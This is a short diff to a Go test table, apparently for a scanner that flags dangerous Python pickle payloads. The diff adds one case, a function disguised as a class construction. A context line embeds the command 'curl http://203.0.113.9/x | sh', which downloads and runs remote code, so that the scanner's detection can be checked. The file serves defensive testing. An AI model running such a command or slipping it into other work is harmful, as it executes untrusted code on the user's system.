@@ -64,6 +64,7 @@ func TestPickles(t *testing.T) {
 		{name: "handed_to_unknown", in: p4(call("pkg:run", system)), want: ids(1)},
 		{name: "import_only", in: p4(system), want: ids(2)},
 		{name: "unknown_function", in: p4(call("pkg:run", id)), want: ids(3)},
+		{name: "function_dressed_as_class", in: p4(call("pkg:run", id) + pt.Dict + pt.Build), want: ids(3)},
 		{name: "glue", in: p4(call("functools:reduce", id)), want: ids(3)},
 		{name: "unknown_class", in: p4(pt.New(named("pkg:Model")) + pt.DictOf(id, pt.Int(1)) + pt.Build), want: ids(4)},
 		{name: "class_name_with_command", in: p4(call("pkg:Model", pt.Str("curl http://203.0.113.9/x | sh"))), want: ids(3)},
